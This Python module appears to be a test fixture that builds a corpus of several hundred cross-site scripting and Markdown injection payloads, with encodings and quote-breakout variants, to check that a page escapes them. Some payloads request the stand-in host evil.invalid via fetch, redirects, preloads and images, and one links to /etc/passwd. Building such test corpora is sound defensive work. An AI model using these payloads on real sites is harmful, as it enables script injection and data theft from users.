"""Corpus of injection payloads that the page must not run, load or follow.

Each calls `pwned()` or requests `evil.invalid` if the page does not escape it. The corpus combines vectors with
encodings, so that the lists stay short.
"""

from __future__ import annotations

import html
import urllib.parse
from collections.abc import Iterator

HOST = "evil.invalid"
_RUN = "pwned()"

_TAGS = (
    "<script>{run}</script>",
    "<script src=//{host}/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//{host}/x.png>",
    '<img srcset="//{host}/x.png 1x">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg onload={run}>#x"></svg>',
    '<svg><a xlink:href="javascript:{run}"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src=//{host}/></iframe>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<object data=javascript:{run}></object>",
    "<object data=//{host}/x></object>",
    "<embed src=javascript:{run}>",
    "<video src=x onerror={run}></video>",
    "<video poster=//{host}/x.png></video>",
    "<audio src=//{host}/x.ogg autoplay></audio>",
    "<body onload={run}>",
    "<body background=//{host}/x>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<a href=javascript:{run}>click</a>",
    "<a href=//{host}/ ping=//{host}/ping>click</a>",
    "<form action=javascript:{run}><button>click</button></form>",
    "<form action=//{host}/><input name=x></form>",
    "<button formaction=javascript:{run}>click</button>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<link rel=prefetch href=//{host}/x>",
    "<link rel=preconnect href=//{host}>",
    "<meta http-equiv=refresh content=0;url=//{host}/>",
    "<meta http-equiv=refresh content=0;url=javascript:{run}>",
    "<base href=//{host}/>",
    "<style>@import '//{host}/x.css';</style>",
    "<style>*{{background:url(//{host}/x)}}</style>",
    '<div style="background:url(//{host}/x)">x</div>',
    "<div onpointerenter={run} style=position:fixed;inset:0>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<p id=__proto__><form id=app><input name=parentNode>",
    "<xss id=x tabindex=1 onfocus={run}></xss>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
)
_QUOTES = (
    "x');{run};//",
    'x");{run};//',
    "x`);{run};//",
    "';{run};'",
    '";{run};"',
    "\\';{run};//",
    "x&#39;);{run};//",
    "x&apos;);{run};//",
    "x&quot;);{run};//",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    '" onclick="{run}',
    "' onclick='{run}",
    "` onclick=`{run}",
    '" autofocus onfocus="{run}" x="',
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "--><img src=x onerror={run}>",
    "*/{run}/*",
    "\u2028{run}//",
    "\n{run}\n//",
    "x');fetch('//{host}/');//",
    "x');location='//{host}/';//",
)
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](vbscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](blob:{run})",
    "[x](file:///etc/passwd)",
    "[x](//{host}/ \"onmouseover='{run}'\")",
    "![x](//{host}/x.png)",
    "![x](http://{host}/x.png)",
    "![x](javascript:{run})",
    "![x](data:image/svg+xml,<svg onload={run}>)",
    "![x][ref]\n\n[ref]: http://{host}/ref.png",
    "[![x](http://{host}/in.png)](javascript:{run})",
    "<javascript:{run}>",
    "<http://{host}/auto>",
    "[x]: javascript:{run}\n\n[x]",
    "```html\n<img src=x onerror={run}>\n```",
    '```"><img src=x onerror={run}>\ncode\n```',
    "`<img src=x onerror={run}>`",
    "| <img src=x onerror={run}> |\n|---|\n| [x](javascript:{run}) |",
    "> <script>{run}</script>",
    "# <img src=x onerror={run}>",
    "- [ ] <svg onload={run}>",
    "$$<img src=x onerror={run}>$$",
    "[a](<javascript:{run}>)",
    "\\<img src=x onerror={run}>",
    "[toString](#){{constructor}}",
    "\u202e<img src=x onerror={run}>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "\x00<script>{run}</script>",
)


def corpus() -> list[str]:
    """More than 300 distinct payloads."""
    return list(dict.fromkeys(_encoded()))


def _encoded() -> Iterator[str]:
    for vector in _TAGS:
        plain = vector.format(run=_RUN, host=HOST)
        yield plain
        yield plain.upper().replace("PWNED()", _RUN)
        yield plain.replace("<", "<\n").replace("onerror=", "onerror\t=")
        yield html.escape(plain)
        yield urllib.parse.quote(plain)
    for vector in _QUOTES:
        plain = vector.format(run=_RUN, host=HOST)
        yield plain
        yield f"x{plain}x"
    for vector in _MARKDOWN:
        yield vector.format(run=_RUN, host=HOST)


def handlers() -> list[str]:
    """Payloads that leave an attribute of an inline handler after two common escapers."""
    ends = ("x')", 'x")', "x`)", "x&#39;)", "x&#x27;)", "x&quot;)", "x\\')", "x\\x27)", "x\\u0027)", "x'", "x'+")
    runs = (f";{_RUN}//", f";{_RUN};('", f",{_RUN}]//", f";top.{_RUN}//", f";eval('{_RUN}')//")
    return [end + run for end in ends for run in runs]
